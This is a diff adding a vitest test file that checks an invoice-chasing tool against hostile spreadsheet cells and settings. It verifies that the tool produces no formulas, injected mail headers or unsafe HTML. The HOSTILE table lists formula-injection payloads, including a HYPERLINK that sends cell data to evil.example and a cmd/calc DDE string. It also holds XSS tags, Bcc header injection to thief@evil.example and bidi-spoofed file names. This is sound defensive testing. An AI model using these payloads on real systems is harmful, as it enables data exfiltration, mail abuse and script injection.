@@ -1,0 +1,85 @@
+import { describe, expect, it } from "vitest";
+import type { Cell } from "../../../src/book/grid.ts";
+import { PLAIN_HEADER } from "../../support/plain-book.ts";
+import { ANN, begin, type Story } from "../support/story.ts";
+
+const HOSTILE: Readonly<Record<string, string>> = {
+  "a formula that fetches": '=HYPERLINK("https://evil.example/?"&A1,"pay here")',
+  "a formula in other words": '=IMPORTXML("https://evil.example","//a")',
+  "a plus": "+1+1",
+  "an at sign": "@SUM(A1:A9)",
+  "a minus": '-2+3+cmd|" /C calc"!A0',
+  "an apostrophe": "'=1+1",
+  HTML: '<img src=x onerror=alert(1)></table><script>alert("x")</script>',
+  "a new header": "Ada\r\nBcc: thief@evil.example\r\n\r\n<h1>Pay here</h1>",
+  "a folded header": "Ada\n\tBcc: thief@evil.example",
+  "50,000 characters": "x".repeat(50_000),
+  "lone halves of characters": "A\ud800da \udc00Ltd",
+  "text turned around": "\u202eLtd \u2066gnp.exe",
+  "control characters": "A\u0000d\u0007a\u001b[31m Ltd",
+  "tokens of a template": "{{totalOverdue}} {{{payLink}}} {{#items}}",
+  Markdown: "[pay here](https://evil.example) ![x](https://evil.example/x.png)",
+};
+
+const FIELDS = [...PLAIN_HEADER, "Our ref", "Owner", "Do not chase", "Language", "Billing link"] as const;
+
+/** A book in which every account has the text in another field, and the last one is as it should be. */
+function book(text: string): Cell[][] {
+  const good = (accountId: string): Cell[] => [
+    accountId,
+    `Customer ${accountId}`,
+    `${accountId.toLowerCase()}@customer.example`,
+    `INV-${accountId}`,
+    "2026-11-10",
+    100,
+    "GBP",
+    ...FIELDS.slice(PLAIN_HEADER.length).map(() => null),
+  ];
+  const rows = FIELDS.map((_, at) => good(`K-${at}`).map((cell, column) => (column === at ? text : cell)));
+  return [[...FIELDS], ...rows, good("K-good")];
+}
+
+/** Formulas anywhere in the spreadsheets: nobody has written one. */
+const formulas = (story: Story) =>
+  Object.values(story.world.spreadsheets).flatMap(({ sheets }) =>
+    sheets.flatMap(({ formulas: cells }) =>
+      cells.flat().filter((formula) => formula !== null && formula !== undefined),
+    ),
+  );
+
+/** The names of a message's headers, and what stands in its address headers. */
+const headers = (raw: string) => {
+  const head = raw
+    .slice(0, raw.indexOf("\r\n\r\n"))
+    .replace(/\r\n[ \t]+/g, " ")
+    .split("\r\n");
+  return head.map((line) => line.slice(0, line.indexOf(":")).toLowerCase());
+};
+
+const KNOWN =
+  /^(date|message-id|from|to|cc|subject|mime-version|content-type|content-transfer-encoding|x-chase-.*|x-unsent|reply-to|auto-submitted|precedence|x-auto-response-suppress|references|in-reply-to|list-.*)$/;
+
+describe.each(Object.entries(HOSTILE))("cells that hold %s", (_what, text) => {
+  it("make drafts or faults, all counted, and neither formula, header nor markup", async () => {
+    const story = await begin({ accounts: book(text), settings: { "Company name": text } });
+    const report = story.on("2026-11-23").run();
+    expect(report.isComplete).toBe(true);
+    expect(formulas(story)).toEqual([]);
+    expect(story.drafts().length).toBe(report.drafts);
+    expect(report.drafts).toBe(story.logged("drafted").length);
+    for (const { raw, to, html } of [...story.drafts(), ...story.sent()]) {
+      for (const name of headers(raw)) expect(name).toMatch(KNOWN);
+      expect(raw).not.toMatch(/^bcc:/im);
+      // Not one line feed without its carriage return, nor one too long to be sent.
+      expect(raw.replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);
+      expect(Math.max(...raw.split("\r\n").map(({ length }) => length))).toBeLessThan(999);
+      expect(to).not.toContain("evil.example");
+      expect(html).not.toMatch(/<script|<img|<[^>]*onerror=|<h1>Pay|href="https:\/\/evil/i);
+    }
+    const accounted = story.rows("Accounts").filter(({ Why }) => typeof Why === "string" && Why !== "");
+    expect(accounted.length).toBe(FIELDS.length + 1);
+    expect(String(story.rows("Accounts").at(-1)?.Draft)).toMatch(/^CB-/);
+    expect(story.run().drafts).toBe(0);
+    expect(story.on("2026-11-24").run(ANN).isComplete).toBe(true);
+  });
+});
